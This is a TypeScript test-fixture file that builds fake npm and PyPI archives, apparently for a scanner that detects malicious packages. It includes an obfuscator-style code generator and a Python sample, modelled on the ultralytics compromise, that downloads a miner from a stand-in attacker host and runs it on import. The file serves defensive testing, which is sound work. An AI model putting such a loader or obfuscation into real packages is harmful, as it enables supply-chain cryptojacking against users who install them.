/** Archive contents built in the test: text files, binaries by their bytes, a package.json from an object. */
import { createHash } from 'node:crypto';
import type { ArchiveContents, ArchiveFile } from '../../src/model/contents.js';

export type Member = string | { binary: Buffer; executable?: boolean };

export function file(path: string, member: Member): ArchiveFile {
  if (typeof member === 'string') {
    const bytes = Buffer.from(member, 'utf8');
    return { path, size: bytes.length, sha256: sha(bytes), kind: 'text', text: member };
  }
  const f: ArchiveFile = {
    path,
    size: member.binary.length,
    sha256: sha(member.binary),
    kind: 'binary',
    head: member.binary.subarray(0, 64).toString('base64'),
  };
  if (member.executable === true) f.executable = true;
  return f;
}

function sha(b: Buffer): string {
  return createHash('sha256').update(b).digest('hex');
}

export function archive(name: string, version: string, members: Record<string, Member>, ecosystem: 'npm' | 'pypi' = 'npm'): ArchiveContents {
  const files = Object.entries(members).map(([p, m]) => file(p, m));
  const unpacked = files.reduce((n, f) => n + f.size, 0);
  return { ecosystem, name, version, integrity: `sha512-${name}-${version}`, files, skipped: [], bytes: { compressed: unpacked, unpacked } };
}

export function manifest(name: string, version: string, extra: Record<string, unknown> = {}): string {
  return JSON.stringify({ name, version, main: 'index.js', ...extra }, null, 2);
}

/** A readable module of `n` functions, the kind of library code an attacker appends to. */
export function readableModule(prefix: string, n: number): string {
  const out: string[] = ["'use strict';"];
  for (let i = 0; i < n; i++)
    out.push(`function ${prefix}${i}(value) {`, `  const result = String(value).trim();`, `  return result.length > ${i} ? result : '';`, '}', '');
  out.push(`module.exports = { ${Array.from({ length: n }, (_, i) => `${prefix}${i}`).join(', ')} };`);
  return `${out.join('\n')}\n`;
}

/** An obfuscator-style string table: `_0x` names, `\x`-escaped strings, rotation, all on one line. */
export function obfuscatedIife(payload: string[]): string {
  const table = payload.map((s) => `'${[...s].map((c) => `\\x${c.charCodeAt(0).toString(16).padStart(2, '0')}`).join('')}'`).join(',');
  const names = Array.from({ length: 16 }, (_, i) => `_0x${(0x1a2b3c + i * 0x111).toString(16)}`);
  const decls = names.map((n, i) => `var ${n}=_0x4e1f(${i});`).join('');
  return `(function(){var _0x5f2a=[${table}];function _0x4e1f(_0x2d8f){return _0x5f2a[_0x2d8f%_0x5f2a.length];}${decls}})();`;
}

/** A minified bundle of `n` statements, one line: what bundlers ship and change wholesale each release. */
export function minifiedBundle(seed: number, n: number, extra = ''): string {
  const parts: string[] = [];
  for (let i = 0; i < n; i++) parts.push(`function a${seed}_${i}(e,t){return e+t*${i}}`);
  return `!function(){${parts.join(';')};${extra}}();\n`;
}

/** A Python package's harmless `__init__` and, after it, the ultralytics 8.3.41 shape: a miner downloaded from a literal host and run at import (defanged). */
export const PY_INIT = ['"""Utilities."""', 'import os', '', 'def settings():', '    return {"dir": os.getcwd()}', ''].join('\n');
export const PY_MINER = [
  'import subprocess',
  'import requests',
  '',
  'def _safe_run():',
  '    data = requests.get("http://miner.attacker.example/xmrig").content',
  '    open("/tmp/x", "wb").write(data)',
  '    subprocess.Popen(["/tmp/x", "-o", "pool.attacker.example:3333"])',
  '',
  '_safe_run()',
  '',
].join('\n');
